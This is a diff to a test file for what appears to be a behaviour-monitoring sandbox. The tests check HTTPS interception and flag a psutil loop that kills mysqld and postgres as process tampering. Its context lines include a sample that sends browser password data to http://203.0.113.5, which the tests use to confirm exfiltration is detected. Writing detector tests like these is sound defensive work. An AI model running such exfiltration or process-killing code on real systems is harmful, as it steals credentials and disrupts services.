@@ -295,3 +295,27 @@ urllib.request.urlopen("http://203.0.113.5/c?d=" + rows[0][2].decode(), timeout=
 """)
     exf = [b for b in out.result.behaviours if b.id == "exfiltration"]
     assert exf and "browser_password" in exf[0].evidence[0]["canaries"]
+
+
+def test_requests_and_httpx_trust_the_per_run_ca_over_https(sandbox):
+    out = run(sandbox, """
+import requests, httpx
+print(requests.get("https://api.github.com/repos/x/y", timeout=5).json()["status"])
+print(httpx.get("https://pypi.example.org/simple/pkg/", timeout=5).status_code)
+""")
+    assert out.raw["stdout"] == "ok\n200\n", out.raw["stderr"]
+    hosts = sorted((r["host"], r["proto"]) for r in sinks(out, 443))
+    assert hosts == [("api.github.com", "https"), ("pypi.example.org", "https")]
+
+
+def test_a_psutil_kill_loop_finds_and_kills_a_decoy_and_is_tamper(sandbox):
+    out = run(sandbox, """
+import psutil
+for p in psutil.process_iter(["name", "cmdline"]):
+    if p.info["name"] in ("mysqld", "postgres") and p.info["name"] in " ".join(p.info["cmdline"] or []):
+        p.kill()
+        print("killed", p.info["name"])
+""")
+    assert sorted(out.raw["stdout"].split("\n")[:-1]) == ["killed mysqld", "killed postgres"], out.raw["stderr"]
+    tamper = [b for b in out.result.behaviours if b.id == "process.tamper"]
+    assert tamper and any(e.get("decoy") for e in tamper[0].evidence)
